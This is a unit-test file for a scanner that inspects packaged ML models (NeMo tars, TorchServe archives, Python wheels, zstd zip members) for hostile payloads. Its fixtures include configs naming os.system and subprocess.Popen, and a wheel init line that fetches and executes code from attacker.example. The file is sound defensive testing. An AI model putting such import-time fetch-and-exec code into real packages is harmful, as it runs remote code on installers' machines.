using System.Buffers.Binary;
using System.Text;
using Assay.Contracts.Findings;
using Assay.Contracts.Values;
using Assay.Formats.Checksums;
using Assay.Tests.Unit.Formats;

namespace Assay.Tests.Unit.Inspect.Containers;

/// <summary>Archives that frameworks publish models in are looked into like any other, under whatever name.</summary>
public sealed class PackagedModelTests
{
    private static readonly byte[] Canary = ExampleModels.CanaryPickle();
    private static readonly byte[] Clean = ExampleModels.CleanClassifier();

    private static async Task<IReadOnlyList<Finding>> FindingsAsync(byte[] bytes) => await Samples.WalkAsync(bytes);

    private static byte[] Text(string text) => Encoding.UTF8.GetBytes(text);

    private static Severity Worst(IReadOnlyList<Finding> findings) => findings.Select(f => f.Severity).DefaultIfEmpty(Severity.Info).Max();

    [Fact]
    public async Task A_checkpoint_in_a_nemo_archive_is_read_as_the_framework_would()
    {
        // A tar of a configuration and of weights that torch.load reads.
        var bad = SampleArchives.Tar(("./model_config.yaml", Text("target: nemo.collections.asr.models.EncDecCTCModel\n")), ("./model_weights.ckpt", Canary));
        var findings = await FindingsAsync(bad);
        findings.ShouldContain(f => f.Severity == Severity.Critical && f.Location.Member!.EndsWith("model_weights.ckpt"));
        Worst(findings).ShouldBe(Severity.Critical);

        var honest = SampleArchives.Tar(("./model_config.yaml", Text("target: nemo.collections.asr.models.EncDecCTCModel\n")), ("./model_weights.ckpt", Clean));
        (await FindingsAsync(honest)).ShouldAllBe(f => f.Severity < Severity.Medium);
    }

    [Theory]
    [InlineData("target: os.system\n")]
    [InlineData("trainer:\n  _target_: subprocess.Popen\n  args: [echo, assay-canary]\n")]
    public async Task A_configuration_that_names_what_is_built_is_judged_by_the_name(string yaml)
    {
        var findings = await FindingsAsync(SampleArchives.Tar(("model_config.yaml", Text(yaml)), ("model_weights.ckpt", Clean)));
        Worst(findings).ShouldBeOneOf(Severity.High, Severity.Critical);
    }

    [Fact]
    public async Task The_handler_and_the_weights_of_a_torchserve_archive_are_both_examined()
    {
        var archive = SampleArchives.Zip(
            ("MAR-INF/MANIFEST.json", Text("{\"model\": {\"modelName\": \"m\", \"handler\": \"handler.py\", \"serializedFile\": \"m.pt\"}}")),
            ("handler.py", Text("import os\nos.system('echo assay-canary')\n")), ("m.pt", Canary));
        var findings = await FindingsAsync(archive);
        findings.ShouldContain(f => f.Location.Member == "handler.py" && f.Severity >= Severity.High);
        findings.ShouldContain(f => f.Location.Member == "m.pt" && f.Severity == Severity.Critical);
    }

    [Fact]
    public async Task Code_of_a_wheel_that_acts_on_import_is_found()
    {
        var wheel = SampleArchives.Zip(
            ("pkg/__init__.py", Text("import urllib.request\nexec(urllib.request.urlopen('https://attacker.example/x').read())\n")),
            ("pkg-1.0.dist-info/METADATA", Text("Metadata-Version: 2.1\nName: pkg\nVersion: 1.0\n")));
        (await FindingsAsync(wheel)).ShouldContain(f => f.Location.Member == "pkg/__init__.py" && f.Severity >= Severity.High);
    }

    [Theory]
    [InlineData(20)]
    [InlineData(93)]
    public async Task A_payload_that_zip_keeps_as_zstandard_is_found(int method)
    {
        var findings = await FindingsAsync(Packed(method, "archive/data.pkl", Canary, Frame(Canary)));
        findings.ShouldContain(f => f.Rule == "ASY-PKL-001" && f.Location.Member == "archive/data.pkl");
    }

    [Fact]
    public async Task A_method_that_nothing_here_expands_is_told_and_not_passed_over()
    {
        var findings = await FindingsAsync(Packed(97, "archive/data.pkl", Canary, Frame(Canary)));
        findings.ShouldContain(f => f.Severity >= Severity.Medium && f.Rule.StartsWith("ASY-ARC-"));
    }

    /// <summary>A Zstandard frame (RFC 8878) of one raw block.</summary>
    private static byte[] Frame(byte[] content)
    {
        content.Length.ShouldBeLessThan(256);
        return [0x28, 0xb5, 0x2f, 0xfd, 0x20, (byte)content.Length, .. BitConverter.GetBytes((content.Length << 3) | 1)[..3], .. content];
    }

    /// <summary>An archive of one member, whose data are packed already.</summary>
    private static byte[] Packed(int method, string name, byte[] content, byte[] packed)
    {
        var zip = SampleArchives.Zip((name, packed));
        var directory = zip.AsSpan().LastIndexOf("PK\x01\x02"u8);
        var crc = Crc32.Append(0, content);
        foreach (var at in (int[])[8, directory + 10]) BinaryPrimitives.WriteUInt16LittleEndian(zip.AsSpan(at), (ushort)method);
        foreach (var at in (int[])[14, directory + 16]) BinaryPrimitives.WriteUInt32LittleEndian(zip.AsSpan(at), crc);
        foreach (var at in (int[])[22, directory + 24]) BinaryPrimitives.WriteInt32LittleEndian(zip.AsSpan(at), content.Length);
        return zip;
    }
}
